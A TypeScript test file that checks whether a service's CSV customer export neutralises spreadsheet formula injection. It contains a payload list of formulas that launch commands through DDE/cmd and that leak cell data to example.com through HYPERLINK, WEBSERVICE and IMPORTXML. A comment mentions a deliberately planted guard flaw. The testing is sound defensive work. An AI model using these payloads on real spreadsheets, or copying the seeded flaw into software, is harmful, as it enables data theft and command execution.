/** CSV exports neutralize spreadsheet formulas, and importing them restores the original text. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Customer } from '../../src/contract/types.ts';
import { describeEngines } from '../support/engines.ts';
import { startTestService } from '../support/service.ts';

const commands = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com/?leak="&A1,"click")',
  'WEBSERVICE("http://example.com/"&A1)',
  'IMPORTXML(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'A1',
];
const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', "'=", "''="];
const payloads = starts.flatMap((start) => commands.map((command) => `${start}${command}`));

/** Characters that make a spreadsheet evaluate a cell. */
const computed = /^[=+\-@\t\r\n＝＋－＠]/;

describeEngines('CSV injection', (engine) => {
  // Planted: a guard that ignores `-`. 8 payloads got through.
  test('an export contains no cell that a spreadsheet evaluates, and importing it restores every value', async (context) => {
    const service = await startTestService(context, { engine });
    const customers = payloads.map((payload, index) => ({
      externalId: `payload:${index}`,
      name: payload,
      note: payload,
      phone: '+493023125014',
      address: { line1: payload, city: payload },
      tags: [payload],
      metadata: { key: payload },
    }));
    const send = async (body: string, mediaType: string) => {
      const { text } = await service.call('POST', '/customers/import', {
        body: Buffer.from(body),
        headers: { 'Content-Type': mediaType },
      });
      return text.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line).outcome as string]));
    };
    const made = await send(customers.map((each) => JSON.stringify(each)).join('\n'), 'application/x-ndjson');
    assert.deepEqual(new Set(made), new Set(['created']));

    const { text: csv } = await service.call('GET', '/customers/export', { headers: { Accept: 'text/csv' } });
    const [header = [], ...rows]: string[][] = parse(csv, { record_delimiter: '\n' });
    const cells = rows.flat();
    assert.deepEqual(
      cells.filter((cell) => computed.test(cell)),
      [],
    );
    assert.equal(rows.length, payloads.length);
    assert.ok(rows.every((row) => row.length === header.length));

    assert.deepEqual(new Set(await send(csv, 'text/csv')), new Set(['unchanged']));
    const { text } = await service.call('GET', '/customers/export');
    const names = text
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as Customer).name);
    assert.deepEqual(names, payloads);
    context.diagnostic(`${payloads.length} payloads in 6 fields each, ${cells.length} cells, 0 evaluated`);
  });
});
